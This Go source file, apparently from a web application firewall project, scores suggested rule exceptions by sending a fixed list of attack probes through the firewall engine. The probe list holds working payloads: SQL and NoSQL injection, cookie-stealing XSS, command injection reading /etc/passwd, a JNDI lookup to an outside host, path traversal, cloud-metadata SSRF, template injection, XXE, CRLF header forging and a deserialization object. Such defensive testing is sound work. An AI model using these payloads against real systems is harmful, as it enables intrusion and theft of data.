package suggest

import (
	"slices"

	"kongwaf/detect"
	"kongwaf/detect/attack"
)

// probe is an attack that is tried at a place, to tell what a suggestion lets through there.
type probe struct {
	class      detect.Class
	what, text string
}

// probes hold attacks of the classes that a text can carry: whole, as content would be, and
// breaking out of somebody else's text, as injections are.
var probes = []probe{
	{detect.ClassSQLi, "whole SQL statements", "SELECT name FROM users WHERE id = 1 UNION SELECT password FROM users"},
	{detect.ClassSQLi, "SQL that breaks out of a string", "' OR 1=1 -- "},
	{detect.ClassNoSQLi, "scripts in a MongoDB filter", `{"$where":"sleep(5000)"}`},
	{detect.ClassXSS, "pages with scripts", "<p>a</p><script>fetch('/me')</script>"},
	{detect.ClassXSS, "scripts that break out of an attribute", `"><script>alert(document.cookie)</script>`},
	{detect.ClassRCE, "command lines", "cat /etc/passwd | grep root"},
	{detect.ClassRCE, "commands behind a value", "8.8.8.8; cat /etc/passwd"},
	{detect.ClassRCE, "programs that run commands", "import os\nos.system('id')"},
	{detect.ClassRCE, "lookups that act when they are logged", "${jndi:ldap://x.example.com/a}"},
	{detect.ClassPathTraversal, "names of sensitive files", "/etc/passwd"},
	{detect.ClassPathTraversal, "climbs out of a folder", "../../../../etc/passwd"},
	{detect.ClassSSRF, "addresses of the own network", "http://127.0.0.1:8080/admin"},
	{detect.ClassSSRF, "addresses of a cloud's metadata", "http://169.254.169.254/latest/meta-data/"},
	{detect.ClassSSTI, "templates that compute", "{{ ''.__class__.__mro__[1].__subclasses__() }}"},
	{detect.ClassXXE, "XML entities that read files", `<!DOCTYPE o [<!ENTITY x SYSTEM "file:///etc/passwd">]><o>&x;</o>`},
	{detect.ClassSSI, "directives of a web server", `<!--#exec cmd="id" -->`},
	{detect.ClassLDAPi, "LDAP filters", "*)(uid=*))(|(uid=*"},
	{detect.ClassXPathi, "XPath that breaks out of a string", "' or count(//user)=1 or 'a'='b"},
	{detect.ClassCRLF, "forged headers", "a\r\nSet-Cookie: session=1\r\n\r\n<html>"},
	{detect.ClassDeser, "objects that run code when they are read", `O:14:"PendingCommand":1:{s:7:"command";s:2:"id";}`},
}

// price says what each of a unit's suggestions would let through: of the probes, and of what was
// recorded and is no false positive. All of them hold together.
func (c *Collector) price(lab *lab, list []Suggestion, u *unit, shared bool, scanner []bool) {
	meant := map[Spot]bool{}
	for i := range list {
		list[i].Opens, list[i].Keeps = lab.try(&list[i])
		list[i].Others.Examples = []Example{}
		for _, s := range list[i].spots {
			meant[s.Spot] = true
		}
	}
	clients := make([]map[uint32]bool, len(list))
	for _, sh := range c.sorted() {
		if len(list) == 0 || sh.unit != u && (!shared || sh.unit.plugin != u.plugin) {
			continue
		}
		touching, passes := touched(lab, list, sh)
		if !passes {
			continue
		}
		ours := sh.unit == u && !slices.ContainsFunc(sh.spots, func(at Spot) bool { return !meant[at] })
		for i := range list {
			if touching[i] {
				if clients[i] == nil {
					clients[i] = map[uint32]bool{}
				}
				list[i].others(lab, sh, clients[i], func(id uint32) bool { return scanner[id] || !ours })
			}
		}
	}
	for i := range list {
		list[i].Others.Clients = len(clients[i])
	}
}

// touched tells which suggestions silence something of a shape, and whether together they
// silence all of it.
func touched(lab *lab, list []Suggestion, sh *shape) (touching []bool, passes bool) {
	touching, passes = make([]bool, len(list)), true
	for _, at := range sh.spots {
		held := false
		for i := range list {
			if list[i].silences(lab, sh, at) {
				touching[i], held = true, true
			}
		}
		passes = passes && held
	}
	return touching, passes
}

// others counts what sources of a shape sent that are others. Where the text decides, their pieces
// tell how much of it the suggestion silences; without any, it is counted in full.
func (x *Suggestion) others(lab *lab, sh *shape, clients map[uint32]bool, other func(uint32) bool) {
	silent, all := 0, 0
	for i := range sh.samples {
		s := &sh.samples[i]
		if !other(s.source) {
			continue
		}
		if all++; x.exception == nil && !x.silencesSample(lab, sh, s) {
			continue
		}
		if silent++; len(x.Others.Examples) < maxExamples {
			x.Others.Examples = append(x.Others.Examples, s.example())
		}
	}
	for id, p := range sh.pairs {
		if !other(id) || all > 0 && silent == 0 {
			continue
		}
		clients[id] = true
		if all == 0 {
			x.Others.Events += p.events
		} else {
			x.Others.Events += (p.events*silent + all - 1) / all
		}
	}
}

// silencesSample reports whether an expectation silences one of the findings that a sample shows.
func (x *Suggestion) silencesSample(lab *lab, sh *shape, s *sample) bool {
	return slices.ContainsFunc(sh.spots, func(at Spot) bool {
		if anyPosition(s.place) != at.Place {
			return false
		}
		silent, _ := lab.silences(x.with, s, at.Class)
		return silent
	})
}

// engine returns one with the suggestion in force.
func (x *Suggestion) engine() *attack.Engine {
	o := attack.Options{Expectations: x.expectations}
	if x.exception != nil {
		own := *x.exception
		own.Route = "" // the probes take it
		o.Exceptions = []attack.Exception{own}
	}
	return mustEngine(o)
}

// silences reports whether a suggestion silences what was seen at a spot of a shape; where that
// depends on the text, whether it silences any of the pieces that were recorded.
func (x *Suggestion) silences(lab *lab, sh *shape, at Spot) bool {
	r := &detect.Request{Method: sh.method, Target: sh.prefix, Takes: func(name string) bool { return name == sh.unit.route }}
	if x.exception != nil {
		return x.exception.Silences(r, at.Class, detect.Place(at.Place))
	}
	if !slices.ContainsFunc(x.expectations, func(e attack.Expectation) bool {
		place := attack.Exception{Place: e.Place, PathPrefix: e.PathPrefix}
		return place.Silences(r, at.Class, detect.Place(at.Place))
	}) {
		return false
	}
	return slices.ContainsFunc(sh.samples, func(s sample) bool {
		if anyPosition(s.place) != at.Place {
			return false
		}
		silent, _ := lab.silences(x.with, &s, at.Class)
		return silent
	})
}

// try sends the probes to the places of a suggestion, and returns which of them it lets through
// and which it does not.
func (l *lab) try(x *Suggestion) (opens, keeps []string) {
	opens, keeps = []string{}, []string{}
	if x.exception != nil {
		opens = append(opens, x.Class+": all that is of no other class too")
	}
	path := x.PathPrefix
	for _, p := range probes {
		open, kept := false, false
		for _, at := range x.Silences {
			r, ok := carry("", path, at.Place, p.text)
			if !ok || !l.plain.Inspect(r).Blocked {
				continue
			}
			if x.with.Inspect(r).Blocked {
				kept = true
			} else {
				open = true
			}
		}
		switch {
		case open:
			opens = append(opens, p.class.String()+": "+p.what)
		case kept:
			keeps = append(keeps, p.class.String()+": "+p.what)
		}
	}
	return opens, keeps
}
